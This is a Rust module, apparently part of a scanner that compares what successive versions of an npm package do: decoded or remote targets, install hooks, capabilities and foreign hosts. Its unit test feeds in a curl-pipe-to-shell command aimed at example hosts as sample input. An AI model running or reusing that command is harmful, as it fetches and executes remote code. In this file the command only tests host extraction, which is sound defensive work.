//! One version, as far as the comparison asks.

use std::collections::{BTreeMap, BTreeSet};

use super::judge::program;
use super::normal::{Own, is_known, normal};
use super::signals::Moment;
use crate::findings::host;
use crate::findings::provenance::Home;
use crate::model::{Capability, Origin, OriginSet, Reach, TargetKind};
use crate::report::{Behaviour, Report, Site};

/// What tells one behaviour from another across versions.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Hidden {
    /// The target is known, or simply not resolved.
    No,
    /// It comes out of a decoder.
    Decoded,
    /// It comes from the network.
    Remote,
}

/// Id, normalised target, bundled package without its version.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Key<'r> {
    pub(super) id: &'r str,
    pub(super) target: Option<String>,
    pub(super) hidden: Hidden,
    pub(super) package: Option<&'r str>,
}

/// All behaviours of one key.
#[derive(Clone, Debug)]
pub(super) struct Entry<'r> {
    /// The first of them.
    pub(super) first: &'r Behaviour,
    pub(super) reach: Reach,
    pub(super) origin: OriginSet,
    /// Whether the package itself hid the target somewhere. What decodes the caller's text hides
    /// nothing.
    pub(super) is_decoded: bool,
    pub(super) sites: Vec<&'r Site>,
    /// The hosts that the target names.
    pub(super) hosts: Vec<String>,
}

/// What a package did at all, before anything is compared.
#[derive(Clone, Debug, Default)]
pub(super) struct Habits<'r> {
    /// The earliest moment of each id.
    pub(super) ids: BTreeMap<&'r str, Moment>,
    /// The earliest moment of each class.
    pub(super) capabilities: BTreeMap<Capability, Moment>,
    /// Fixed hosts, in lower case.
    pub(super) hosts: BTreeSet<String>,
    /// Programs that it starts.
    pub(super) programs: BTreeSet<&'r str>,
    /// Whether any of these hosts is somebody else's.
    pub(super) has_foreign_host: bool,
}

impl Habits<'_> {
    /// Whether this is more than any of these ids did: the first of its kind, or the first that
    /// nobody has to ask for.
    pub(super) fn is_first(&self, ids: &[&str], moment: Moment) -> bool {
        is_earlier(ids.iter().filter_map(|id| self.ids.get(id)).min(), moment)
    }

    /// The same for a whole class.
    pub(super) fn is_first_of(&self, capability: Capability, moment: Moment) -> bool {
        is_earlier(self.capabilities.get(&capability), moment)
    }
}

fn is_earlier(known: Option<&Moment>, moment: Moment) -> bool {
    known.is_none_or(|&known| moment < known && moment <= Moment::Load)
}

/// The manifest, and what npm builds without being told to.
pub(super) const MANIFEST: &str = "package.json";
pub(super) const GYP: &str = "binding.gyp";

/// One version.
pub(super) struct Side<'r> {
    pub(super) report: &'r Report,
    pub(super) own: Own<'r>,
    pub(super) home: Home,
    pub(super) behaviours: BTreeMap<Key<'r>, Entry<'r>>,
    /// Of code that can run.
    pub(super) habits: Habits<'r>,
}

impl<'r> Side<'r> {
    pub(super) fn new(report: &'r Report) -> Self {
        let own = Own {
            version: report.subject.version.as_deref(),
        };
        let manifest = &report.manifest;
        let links = [manifest.repository.as_deref(), manifest.homepage.as_deref()];
        let mut side = Self {
            report,
            own,
            home: Home::of_links(links),
            behaviours: BTreeMap::new(),
            habits: Habits::default(),
        };
        for behaviour in &report.behaviours {
            side.add(behaviour);
        }
        side
    }

    fn add(&mut self, behaviour: &'r Behaviour) {
        let key = self.key(behaviour);
        let hosts = hosts(behaviour);
        // The command of a hook is npm's doing, not a habit of the code.
        let of_manifest = |site: &Site| site.file == MANIFEST || site.file == GYP;
        let by_code = behaviour.sites.is_empty() || !behaviour.sites.iter().all(of_manifest);
        if by_code && !behaviour.reach.is_dormant() {
            let moment = Moment::of(behaviour.reach);
            let id = self.habits.ids.entry(&behaviour.id).or_insert(moment);
            *id = moment.min(*id);
            let class = self.habits.capabilities.entry(behaviour.capability);
            let class = class.or_insert(moment);
            *class = moment.min(*class);
            let command = behaviour.target.as_deref();
            let command = command.filter(|_| behaviour.target_kind == Some(TargetKind::Command));
            self.habits.programs.extend(command.and_then(program));
            for host in &hosts {
                let foreign = !host::is_local(host) && !self.is_home(behaviour, host);
                self.habits.has_foreign_host |= foreign;
                self.habits.hosts.insert(host.clone());
            }
        }
        let entry = self.behaviours.entry(key).or_insert_with(|| Entry {
            first: behaviour,
            reach: Reach::DORMANT,
            origin: OriginSet::EMPTY,
            is_decoded: false,
            sites: Vec::new(),
            hosts,
        });
        entry.reach.join(behaviour.reach);
        let origin = behaviour.origin;
        entry.is_decoded |= origin.has(Origin::Decoded) && !origin.has(Origin::Parameter);
        entry.origin = entry.origin.with(origin);
        entry.sites.extend(&behaviour.sites);
    }

    fn is_home(&self, behaviour: &Behaviour, host: &str) -> bool {
        let address = behaviour.target.as_deref().unwrap_or(host);
        let whose = self.home.whose(address).or_else(|| self.home.whose(host));
        !matches!(whose, Some(crate::findings::provenance::Whose::Foreign))
    }

    fn key(&self, behaviour: &'r Behaviour) -> Key<'r> {
        let target = behaviour
            .target
            .as_deref()
            .filter(|target| is_known(target));
        let has = |origin| target.is_none() && behaviour.origin.has(origin);
        Key {
            id: &behaviour.id,
            target: target.map(|text| normal(text, behaviour.target_kind, self.own)),
            hidden: match (has(Origin::Decoded), has(Origin::Remote)) {
                (true, _) => Hidden::Decoded,
                (_, true) => Hidden::Remote,
                _ => Hidden::No,
            },
            package: behaviour.package.as_deref().map(without_version),
        }
    }
}

/// `name` of `name@version`.
fn without_version(package: &str) -> &str {
    let at = package.rfind('@').filter(|&at| at > 0);
    at.and_then(|at| package.get(..at)).unwrap_or(package)
}

/// The hosts that a behaviour names: its target's, or those of the addresses in a command.
fn hosts(behaviour: &Behaviour) -> Vec<String> {
    let Some(target) = behaviour.target.as_deref() else {
        return Vec::new();
    };
    let mut hosts: Vec<String> = match behaviour.target_kind {
        Some(TargetKind::Url) if target.contains("//") => host::host(target).into_iter().collect(),
        Some(TargetKind::Host) => host::host(target).into_iter().collect(),
        Some(TargetKind::Command) => target
            .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ';'))
            .filter(|word| word.contains("://"))
            .filter_map(host::host)
            .collect(),
        _ => Vec::new(),
    };
    // A part of a name is no name.
    hosts.retain(|host| host.contains('.') || host::is_local(host) || host.contains(':'));
    hosts.sort();
    hosts.dedup();
    hosts
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::sample;

    #[test]
    fn a_package_is_known_by_its_name() {
        assert_eq!(without_version("@s/n@1.0.0"), "@s/n");
        assert_eq!(without_version("@s/n"), "@s/n");
        assert_eq!(without_version("n@?"), "n");
    }

    #[test]
    fn hosts_stand_in_addresses_and_commands() {
        let mut behaviour = sample().behaviours.remove(0);
        let mut of = |target: &str, kind| {
            behaviour.target = Some(target.to_owned());
            behaviour.target_kind = Some(kind);
            hosts(&behaviour)
        };
        assert_eq!(of("https://A.example/x", TargetKind::Url), ["a.example"]);
        assert_eq!(of("/x", TargetKind::Url), [""; 0]);
        assert_eq!(
            of(
                "curl -s 'https://b.example/x' | sh; wget http://a.example",
                TargetKind::Command
            ),
            ["a.example", "b.example"]
        );
        assert_eq!(of("<?>/x", TargetKind::Url), [""; 0]);
    }
}
